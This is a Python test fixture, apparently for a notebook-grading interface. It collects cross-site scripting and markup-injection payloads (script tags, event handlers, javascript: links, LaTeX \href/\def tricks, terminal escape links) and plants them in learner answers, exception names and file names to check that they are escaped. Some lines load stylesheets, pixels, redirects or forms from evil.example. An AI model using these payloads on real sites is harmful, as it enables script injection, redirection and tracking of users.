"""Attacks on whoever opens a page: script, markup and LaTeX wherever a learner's words are shown.

Each sets the page's title if it acts.
"""

ACT = "document.title='CAPTURED'"
SNIPPETS = (
    f"<script>{ACT}</script>",
    f"<img src=x onerror={ACT}>",
    f'<svg onload="{ACT}"><animate onbegin={ACT} attributeName=x dur=1s>',
    f"<iframe srcdoc='<script>parent.{ACT}</script>'></iframe>",
    f'<body onload="{ACT}"><details open ontoggle={ACT}>',
    "<style>*{display:none}</style><link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'><base href=//evil.example>",
    "<form action=//evil.example><input name=q autofocus onfocus=alert(1)>",
    f"</pre></div></script><script>{ACT}</script>",
    f"--><script>{ACT}</script><!--",
    f"]]><script>{ACT}</script>",
    f"&lt;script&gt;{ACT}&lt;/script&gt; &#60;script&#62;{ACT}&#60;/script&#62;",
    f"{{{{ '<script>{ACT}</script>' | safe }}}} {{% raw %}}<script>{ACT}</script>",
    f"\x1b[31m<script>{ACT}</script>\x1b[0m \x1b]8;;javascript:{ACT}\x07x\x1b]8;;\x07",
)
MARKDOWN = (
    *SNIPPETS,
    f"[a](javascript:{ACT}) [b](<javascript:{ACT}>) [c]( javascript:{ACT}) [d](JaVaScRiPt:{ACT})",
    f"[e](\njavascript:{ACT}) [f](java&#115;cript:{ACT}) [g](&#106;avascript:{ACT})",
    "[h](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) [i](vbscript:x) [j](file:///etc)",
    f"[k][1] ![l](javascript:{ACT}) ![m](http://evil.example/pixel.png)\n\n[1]: javascript:{ACT}\n[2]:\n javascript:{ACT}",
    f"<javascript:{ACT}> <http://a.example/onclick={ACT}>",
    f'[n](https://a.example "x\\" onmouseover={ACT} y=\\"") [o](https://a.example/"onclick={ACT})',
    f"![p](https://a.example/x onerror={ACT}) [q](https://a.example\\\"onclick={ACT})",
    f"$\\href{{javascript:{ACT}}}{{x}}$ $$\\\\href{{javascript:{ACT}}}{{x}}$$ &#92;(&#92;href{{javascript:{ACT}}}{{x}}&#92;)",
    "\\\\(\\\\style{position:fixed}{x}\\\\) $\\class{btn}{x} \\cssId{y}{z} \\require{html} \\unicode{x}$",
    "$\\def\\a#1{\\hr#1}\\a{ef}{javascript:x}{y} \\newcommand{\\b}{\\href} \\let\\c\\href \\renewcommand{\\text}{\\href}$",
    "!![p](https://evil.example/pixel.png) !!!![q][r]\n\n[r]: https://evil.example/pixel.png",
    f"$\\mmlToken{{mi}}[href='javascript:{ACT}']{{x}} \\bbox[position:fixed]{{x}} \\gdef\\a{{x}} \\href1{{x}}$",
    "# check-softmax\n\ncheck-rnn_forward\n===\n\n## nbgrader\n\n### what-a-forward-network-cannot-see",
    "&\\NewLine; &\\let; &\\def&#60;",
    f"```html\n<script>{ACT}</script>\n```\n`<script>{ACT}</script>`\n    <script>{ACT}</script>",
    f"- x\n\n  <script>{ACT}</script>\n\n| a |\n|---|\n| <script>{ACT}</script> |\n\n> <script>{ACT}</script>",
)  # fmt: skip
TEXT = "\n".join(SNIPPETS)

ANSWERS = {
    "why-one-set-of-weights": "\n\n".join(MARKDOWN),
    "what-a-forward-network-cannot-see": "\n\n".join(MARKDOWN),
    "softmax": f"def softmax(z):\n    raise ValueError({TEXT!r})\nprint({TEXT!r})\n# {SNIPPETS[0]}",
    # what is raised, by a function that bears a name of its own choice
    "output_forward": f"def output_forward(a, params):\n    raise NotImplementedError\noutput_forward.__code__ = output_forward.__code__.replace(co_name={SNIPPETS[0]!r})",
    "rnn_forward": f"def rnn_forward(x, a0, params):\n    return type({SNIPPETS[1]!r}, (), {{}})()",
    "last_states": f"raise type({SNIPPETS[0]!r}, (Exception,), {{}})({TEXT!r})",
    "rnn_generate": f"def rnn_generate(x_1, a0, params, T_y): pass\n)(  {SNIPPETS[0]}",
}  # fmt: skip
FILES = (f"<img src=x onerror={ACT}>.ipynb", f"[x](javascript:{ACT}).ipynb",
         f"$\\href{{javascript:{ACT}}}{{x}}$.ipynb")  # fmt: skip
